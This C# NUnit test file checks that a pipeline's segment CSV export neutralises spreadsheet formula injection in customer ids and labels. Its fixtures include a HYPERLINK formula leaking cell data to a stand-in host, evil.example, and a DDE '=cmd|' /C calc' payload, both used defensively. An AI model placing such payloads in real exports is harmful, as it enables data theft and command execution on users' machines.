using System.Text;
using CsvHelper;
using NUnit.Framework;
using Pipeline.Engine.DuckDb;
using Pipeline.Exports;
using Pipeline.Tests.Support;

namespace Pipeline.Tests.Exports;

/// <summary>
/// <c>pipeline export segments</c> on hand-written rfm/scores, segments/assignments and ltv/customers snapshots whose
/// customer ids and labels are hostile: formula triggers, quotes, separators, line breaks.
/// </summary>
public class SegmentsExportTests
{
    private string _dir = "";

    private string Output => Path.Combine(_dir, "out");

    [SetUp]
    public void SetUp() => _dir = TestPaths.NewTempDir("export");

    [TearDown]
    public void TearDown() => Directory.Delete(_dir, recursive: true);

    /// <summary>Hostile customer id → what the CSV field must read back as.</summary>
    private static readonly (string Id, string Expected)[] Ids =
    [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" =1+1", "' =1+1"),
        ("\n+cmd", "'\n+cmd"),
        ("\uFF1D1+1", "'\uFF1D1+1"),
        ("C001", "C001"),
        ("a=b", "a=b"),
        ("x,\"y\"\nz\\", "x,\"y\"\nz\\"),
    ];

    private const string AsOf = "2024-06-30";

    private void WriteSnapshot(string asOf, bool scores = true, bool assignments = true, bool ltv = true)
    {
        using var engine = new DuckDbEngine(new DuckDbOptions(1));
        string S(string v) => "'" + v.Replace("'", "''", StringComparison.Ordinal) + "'";
        var date = $"DATE '{asOf}'";
        if (scores)
        {
            var rows = Ids.Select((c, i) => $"({S(c.Id)}, {i + 1}.0, 1, 10.0, 5, 1, 2, '512', {(i == 3 ? S("Can't Lose Them") : S("Champions"))}, {date})");
            engine.WriteParquet($"""
                SELECT customer_id, CAST(recency_days AS DOUBLE) AS recency_days, CAST(frequency AS INTEGER) AS frequency, monetary,
                       CAST(r_score AS INTEGER) AS r_score, CAST(f_score AS INTEGER) AS f_score, CAST(m_score AS INTEGER) AS m_score,
                       rfm_cell, segment, as_of
                FROM (VALUES {string.Join(", ", rows)}) AS t(customer_id, recency_days, frequency, monetary, r_score, f_score, m_score, rfm_cell, segment, as_of)
                """, Path.Combine(Output, "rfm", "scores"), ["as_of"]);
        }
        if (assignments)
        {
            // The last customer has no k-means assignment; one label is itself hostile.
            var rows = Ids.SkipLast(1).Select((c, i) => $"({S(c.Id)}, {i % 2 + 1}, {(i == 0 ? S("=cmd|' /C calc'!A0") : S("high value, frequent"))}, {date})");
            engine.WriteParquet($"""
                SELECT customer_id, CAST(segment_id AS INTEGER) AS segment_id, segment_label, as_of
                FROM (VALUES {string.Join(", ", rows)}) AS t(customer_id, segment_id, segment_label, as_of)
                """, Path.Combine(Output, "segments", "assignments"), ["as_of"]);
        }
        if (ltv)
        {
            // No LTV row for the first customer; p_alive ≈ 0.25, clv_90d ≈ 12.5 + i, clv_365d ≈ −1.5, with the long tails
            // model doubles have: the export rounds a probability to 4 decimals and money to cents (numbers are never quoted).
            var rows = Ids.Skip(1).Select((c, i) => $"({S(c.Id)}, 0.250049, {(12.5 + i).ToString(System.Globalization.CultureInfo.InvariantCulture)}0398466752396, -1.504999, {date})");
            engine.WriteParquet($"""
                SELECT customer_id, CAST(1 AS INTEGER) AS frequency, 1.0 AS recency, 2.0 AS T, 3.0 AS monetary_value,
                       CAST(p_alive AS DOUBLE) AS p_alive, 4.0 AS expected_order_value, 0.1 AS expected_purchases_90d,
                       CAST(clv_90d AS DOUBLE) AS clv_90d, 0.2 AS expected_purchases_365d, CAST(clv_365d AS DOUBLE) AS clv_365d, as_of
                FROM (VALUES {string.Join(", ", rows)}) AS t(customer_id, p_alive, clv_90d, clv_365d, as_of)
                """, Path.Combine(Output, "ltv", "customers"), ["as_of"]);
        }
    }

    private static List<string[]> ReadCsv(string path)
    {
        using var reader = CsvReader.FromFile(path, new CsvReaderOptions
        {
            HasHeader = false, Separator = ',', MalformedData = CsvMalformedDataHandling.Throw, SkipEmptyLines = false,
        });
        var records = new List<string[]>();
        while (reader.Read())
        {
            records.Add(Enumerable.Range(0, reader.FieldCount).Select(reader.GetString).ToArray());
        }
        return records;
    }

    [Test]
    public void Every_text_field_is_neutralised_and_survives_a_csv_round_trip()
    {
        WriteSnapshot(AsOf);
        var r = PipelineCli.Run("export", "segments", "--format", "csv", "-o", Output);
        Assert.That(r.ExitCode, Is.Zero, r.ToString());
        var path = Path.Combine(Output, "exports", $"segments-{AsOf}.csv");
        Assert.That(r.Stdout, Does.Contain(path));
        var records = ReadCsv(path);
        Assert.That(records[0], Is.EqualTo(new[] { "customer_id", "rfm_segment", "rfm_cell", "kmeans_segment", "p_alive", "clv_90d", "clv_365d" }));
        var byId = records.Skip(1).ToDictionary(f => f[0]);
        Assert.That(byId.Keys, Is.EquivalentTo(Ids.Select(i => i.Expected)), "one row per rfm/scores customer, ids neutralised");
        Assert.Multiple(() =>
        {
            for (var i = 0; i < Ids.Length; i++)
            {
                var row = byId[Ids[i].Expected];
                Assert.That(row[1], Is.EqualTo(i == 3 ? "Can't Lose Them" : "Champions"), Ids[i].Expected);
                Assert.That(row[2], Is.EqualTo("512"));
                var label = i == Ids.Length - 1 ? "" : i == 0 ? "'=cmd|' /C calc'!A0" : "high value, frequent";
                Assert.That(row[3], Is.EqualTo(label), $"kmeans_segment of {Ids[i].Expected}");
                Assert.That(row[4], Is.EqualTo(i == 0 ? "" : "0.25"), "p_alive");
                Assert.That(row[5], Is.EqualTo(i == 0 ? "" : (12.5 + i - 1).ToString("R", System.Globalization.CultureInfo.InvariantCulture)), "clv_90d");
                Assert.That(row[6], Is.EqualTo(i == 0 ? "" : "-1.5"), "clv_365d: a number, not neutralised");
            }
            // No field of the file, read as a spreadsheet would, starts with a formula trigger.
            Assert.That(records.SelectMany(f => f).Where(SpreadsheetSafe.IsDangerous).Except(["-1.5"]), Is.Empty);
        });

        var bytes = File.ReadAllBytes(path);
        Assert.Multiple(() =>
        {
            Assert.That(bytes.Take(3), Is.Not.EqualTo(new byte[] { 0xEF, 0xBB, 0xBF }), "no byte-order mark");
            Assert.That(Encoding.UTF8.GetString(bytes), Does.StartWith("customer_id,rfm_segment,rfm_cell,kmeans_segment,p_alive,clv_90d,clv_365d\r\n"));
            Assert.That(Directory.GetFiles(Path.GetDirectoryName(path)!), Is.EqualTo(new[] { path }), "no temp file left");
        });
    }

    [Test]
    public void The_latest_snapshot_is_the_default_and_an_explicit_output_file_is_replaced_whole()
    {
        WriteSnapshot("2024-05-31");
        WriteSnapshot(AsOf);
        var target = Path.Combine(_dir, "crm", "audience.csv");
        Directory.CreateDirectory(Path.GetDirectoryName(target)!);
        File.WriteAllText(target, new string('x', 100_000));
        var r = PipelineCli.Run("export", "segments", "-o", Output, "--output-file", target, "--as-of", "2024-05-31");
        Assert.That(r.ExitCode, Is.Zero, r.ToString());
        Assert.That(ReadCsv(target), Has.Count.EqualTo(Ids.Length + 1));
        Assert.That(Directory.GetFiles(Path.GetDirectoryName(target)!), Is.EqualTo(new[] { target }));

        var latest = PipelineCli.Run("export", "segments", "-o", Output);
        Assert.That(latest.ExitCode, Is.Zero, latest.ToString());
        Assert.That(File.Exists(Path.Combine(Output, "exports", $"segments-{AsOf}.csv")), Is.True);
    }

    [Test]
    public void Missing_tables_are_an_input_error_naming_the_commands_to_run()
    {
        var none = PipelineCli.Run("export", "segments", "-o", Output);
        Assert.That(none.ExitCode, Is.EqualTo(3), none.ToString());
        Assert.That(none.Stderr, Does.Contain("pipeline rfm"));

        WriteSnapshot(AsOf, assignments: false, ltv: false);
        var r = PipelineCli.Run("export", "segments", "-o", Output);
        Assert.That(r.ExitCode, Is.EqualTo(3), r.ToString());
        Assert.That(r.Stderr, Does.Contain($"`pipeline segment --as-of {AsOf}`").And.Contain($"`pipeline ltv --as-of {AsOf}`"));
        Assert.That(r.Stderr.Split('\n', StringSplitOptions.RemoveEmptyEntries).Count(l => l.StartsWith("error:", StringComparison.Ordinal)), Is.EqualTo(1));
        Assert.That(Directory.Exists(Path.Combine(Output, "exports")), Is.False, "nothing written");
    }

    [Test]
    public void Horizons_the_ltv_table_lacks_are_an_input_error()
    {
        WriteSnapshot(AsOf);
        var config = Path.Combine(_dir, "c.json");
        File.WriteAllText(config, """{ "analytics": { "ltv": { "horizons_days": [30, 90] } } }""");
        var r = PipelineCli.Run("export", "segments", "-c", config, "-o", Output);
        Assert.That(r.ExitCode, Is.EqualTo(3), r.ToString());
        Assert.That(r.Stderr, Does.Contain("clv_30d").And.Contain($"pipeline ltv --as-of {AsOf}"));
    }

    [TestCase("xlsx")]
    public void Only_csv_is_a_format(string format)
    {
        var r = PipelineCli.Run("export", "segments", "--format", format, "-o", Output);
        Assert.That(r.ExitCode, Is.EqualTo(2), r.ToString());
    }

    [Test]
    public void A_bad_as_of_is_a_usage_error()
    {
        var r = PipelineCli.Run("export", "segments", "--as-of", "30/06/2024", "-o", Output);
        Assert.That(r.ExitCode, Is.EqualTo(2), r.ToString());
    }

    [TestCase("=1", true)]
    [TestCase("+1", true)]
    [TestCase("-1", true)]
    [TestCase("@x", true)]
    [TestCase("\tx", true)]
    [TestCase("\rx", true)]
    [TestCase("  \u00A0=1", true)]
    [TestCase("\n@x", true)]
    [TestCase("\uFF20x", true)]
    [TestCase("\uFF0B1", true)]
    [TestCase("", false)]
    [TestCase("   ", false)]
    [TestCase("abc", false)]
    [TestCase("a-b", false)]
    [TestCase("'=1", false)]
    public void Formula_triggers_are_recognised_after_leading_whitespace(string text, bool dangerous)
    {
        Assert.That(SpreadsheetSafe.IsDangerous(text), Is.EqualTo(dangerous));
        Assert.That(SpreadsheetSafe.Neutralise(text), Is.EqualTo(dangerous ? "'" + text : text));
    }
}
